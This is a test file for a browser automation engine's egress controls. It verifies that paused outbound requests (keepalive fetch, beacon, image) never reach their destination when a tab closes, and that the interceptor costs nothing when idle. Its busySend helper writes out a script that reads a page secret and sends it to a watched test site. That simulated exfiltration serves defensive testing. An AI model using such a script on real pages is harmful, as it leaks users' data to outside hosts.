// What the engine holds paused fails closed when the tab goes without the engine, on real Chromium through the
// fallback's host: a keepalive fetch, a beacon and an image an agent's script started, paused while the engine waits to
// judge them, reach no one when the person closes the tab (Chrome let each one out), nor when the page closes itself;
// and what catches them costs the person's browsing nothing until a session pauses a send, nor once none has for a while.
import { afterEach, describe, expect, it } from 'vitest';
import type { CdpTabHost } from '../../electron/core/fallback/cdp-tab-host.js';
import { evaluate } from '../../shared/engine/ops/eval.js';
import { PageContext } from '../../shared/engine/page-context.js';
import { loadUrl, startTestBrowser, type TestBrowser } from '../support/browser.js';
import { ctx } from '../support/engine-suite.js';
import { pausedAt } from '../support/paused-at.js';
import { reachedSite } from '../support/late-results.js';
import { pageEval } from '../support/page-probes.js';
import { useWatchedEngine } from '../support/watched-engine-tab.js';

const engine = useWatchedEngine();
const { suite, gate } = engine;
const KEY = `document.getElementById('secret').textContent`;
const opened: PageContext[] = [];

afterEach(() => {
  for (const page of opened.splice(0)) page.dispose();
  engine.watched.requests.length = 0;
});

/**
 * A background tab on egress-late.html with a page context of its own, and the tab's id. `first`: the page is the
 * tab's first entry, opened with it, which a page may close itself (window.close). `host`: the suite's unless given.
 */
async function openPage(
  first = false,
  host: CdpTabHost = suite.browser.host,
): Promise<{ tabId: string; page: PageContext }> {
  const url = suite.server.url('egress-late.html');
  const tab = await host.create(first ? url : 'about:blank', { focus: false });
  const page = new PageContext(await host.cdp(tab.id), gate);
  opened.push(page);
  await page.frames.init();
  if (first) await untilLoaded(page);
  else await loadUrl(page, url);
  return { tabId: tab.id, page };
}

/**
 * A script that sends the page's key to the watched site at `path` from a timer (`send`: a keepalive fetch, a beacon
 * or an image), then keeps the page's thread busy: the tab tells the request's initiator only seconds later, and until
 * then the engine waits to judge it, paused (egress-trail.ts). `after`: what the page does once the send is out.
 */
function busySend(path: string, send: 'fetch' | 'beacon' | 'image', after = ''): string {
  const url = `'${engine.watched.origin}${path}?key=' + encodeURIComponent(${KEY})`;
  const start =
    send === 'fetch'
      ? `fetch(${url}, { mode: 'no-cors', keepalive: true }).catch(() => undefined)`
      : send === 'image'
        ? `new Image().src = ${url}`
        : `navigator.sendBeacon(${url}, 'k')`;
  return `setTimeout(() => { ${start}; const busy = Date.now() + 3000; while (Date.now() < busy); ${after} }, 300); 0`;
}

/** Resolves once the page's own script has run and its load is over. */
async function untilLoaded(page: PageContext): Promise<void> {
  const deadline = Date.now() + 20_000;
  while (!(await pageEval<boolean>(page, `document.readyState === 'complete' && 'pageSend' in window`))) {
    if (Date.now() > deadline) throw new Error('the page never loaded');
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

/** Resolves once the browser no longer lists the tab. */
async function untilGone(tabId: string, host: CdpTabHost = suite.browser.host): Promise<void> {
  const deadline = Date.now() + 20_000;
  while ((await host.list()).some((tab) => tab.id === tabId)) {
    if (Date.now() > deadline) throw new Error(`tab ${tabId} never closed`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

/** What reached the watched site once it is quiet and another tab's own send has arrived there after. */
async function reachedAfter(): Promise<string[]> {
  await engine.watched.settled();
  const { page } = await openPage();
  return reachedSite(page, engine.watched);
}

/** The person closes the tab while a script's `send` waits paused: resolves once the tab is gone. */
async function closeWhileHeld(send: 'fetch' | 'beacon' | 'image', path: string, browser: TestBrowser): Promise<void> {
  const { tabId, page } = await openPage(false, browser.host);
  // Listened for first: on a loaded box the script's timer (300 ms) can fire before the eval's answer arrives.
  const paused = pausedAt(page.cdp, path);
  await evaluate(page, { expression: busySend(path, send) }, ctx);
  await paused;
  // The person's close, from the browser's side: the engine is not asked.
  await browser.browser.connection.send('Target.closeTarget', { targetId: tabId });
  await untilGone(tabId, browser.host);
}

/** Counts the requests a browser's own interceptor meets (pauses of no tab session). */
function pausesAtBrowser(browser: TestBrowser): { count: number } {
  const seen = { count: 0 };
  browser.browser.connection.on((event) => {
    if (event.method === 'Fetch.requestPaused' && event.sessionId === undefined) seen.count++;
  });
  return seen;
}

describe('a held send as its tab goes without the engine', () => {
  const named = { fetch: 'keepalive fetch', beacon: 'beacon', image: 'image' } as const;
  for (const send of ['fetch', 'beacon', 'image'] as const) {
    it(`the person closes the tab: a held ${named[send]} reaches no one`, async () => {
      await closeWhileHeld(send, `/person-closed-${send}`, suite.browser);
      expect(await reachedAfter()).toEqual([]);
    });
  }

  it('the page closes itself: a held keepalive fetch reaches no one', async () => {
    const { tabId, page } = await openPage(true);
    const paused = pausedAt(page.cdp, '/page-closed');
    await evaluate(page, { expression: busySend('/page-closed', 'fetch', 'window.close();') }, ctx);
    await paused;
    await untilGone(tabId);
    expect(await reachedAfter()).toEqual([]);
  });
});

describe('the browser before any session pauses a send', () => {
  it("meets none of the page's own requests in the browser's interceptor", async () => {
    const browser = await startTestBrowser(gate);
    const atBrowser = pausesAtBrowser(browser);
    try {
      const { page } = await browser.open(suite.server.url('egress-late.html'));
      expect(await reachedSite(page, engine.watched)).toEqual([]);
      await loadUrl(page, suite.server.url('egress-late.html'));
      expect(atBrowser.count).toBe(0);
    } finally {
      await browser.close();
    }
  });

  it('meets none once no session has held a send for a while, and a later held send still fails closed', async () => {
    const browser = await startTestBrowser(gate);
    const atBrowser = pausesAtBrowser(browser);
    try {
      const scripted = await openPage(false, browser.host);
      const other = await openPage(false, browser.host);
      // The script's own send pauses in its tab's session: from then on the browser's interceptor meets every request.
      await evaluate(scripted.page, { expression: `fetch('/script-send').catch(() => undefined); 0` }, ctx);
      expect(await untilQuiet(other.page, atBrowser)).toBeGreaterThan(0);
      await closeWhileHeld('fetch', '/after-quiet', browser);
      expect(await reachedAfter()).toEqual([]);
    } finally {
      await browser.close();
    }
  }, 90_000);
});

/**
 * Resolves, with how many requests the browser's interceptor met meanwhile, once a request of `page`'s own (a tab no
 * script ran in) meets it no longer; throws if it still does after 40 s.
 */
async function untilQuiet(page: PageContext, atBrowser: { count: number }): Promise<number> {
  const deadline = Date.now() + 40_000;
  for (let round = 0; Date.now() < deadline; round++) {
    const before = atBrowser.count;
    // A synchronous request: answered, wherever it was met, by the time the probe returns.
    await pageEval(
      page,
      `{ const own = new XMLHttpRequest(); own.open('GET', '/own-${round}', false); own.send(); 0 }`,
    );
    if (atBrowser.count === before && before > 0) return before;
    await new Promise((resolve) => setTimeout(resolve, 500));
  }
  throw new Error(`the browser's interceptor still met the page's own requests (${atBrowser.count} so far)`);
}
